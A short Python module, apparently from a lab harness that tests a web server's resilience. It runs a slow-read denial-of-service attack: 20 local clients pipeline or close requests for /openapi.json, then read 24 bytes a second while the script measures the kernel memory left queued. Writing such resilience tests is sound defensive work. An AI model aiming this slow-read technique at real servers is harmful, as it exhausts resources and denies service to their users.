"""Clients that hardly read, for whom the kernel and the process keep what they asked for."""

import time

from lab.attack.target import AttackResult, Target

READERS = 20
ASKED = b"GET /openapi.json HTTP/1.1\r\nHost: shop.example\r\n"
SECONDS = 22  # a little more than the product's own bound with its rounds


def attack_answers_that_nobody_reads(target: Target) -> AttackResult:
    """Asks for much on each connection and reads 24 bytes a second."""
    readers = [target.connect(source="127.0.0.88", keeps=4096) for _ in range(READERS)]
    half = READERS // 2
    for number, reader in enumerate(readers):
        # Half of them have the connection closed behind one answer: the kernel's part of it is nobody's then.
        reader.sendall((ASKED + b"\r\n") * 50 if number < half else ASKED + b"Connection: close\r\n\r\n")
        reader.settimeout(0.01)
    most, held = 0, -1
    for _ in range(SECONDS):
        for reader in readers:
            try:
                reader.recv(24)
            except OSError:  # nothing there, or reset
                continue
        time.sleep(1)  # the attacker's own slowness
        held = target.queued()
        most = max(most, held)
        if held == 0:
            break
    for reader in readers:
        reader.close()
    tried = f"{READERS} clients at 24 bytes/s, 50 pipelined requests or one that closes"
    return AttackResult(tried, f"the kernel held {most // 1024} KiB, {held // 1024} KiB at the end", held > 0)
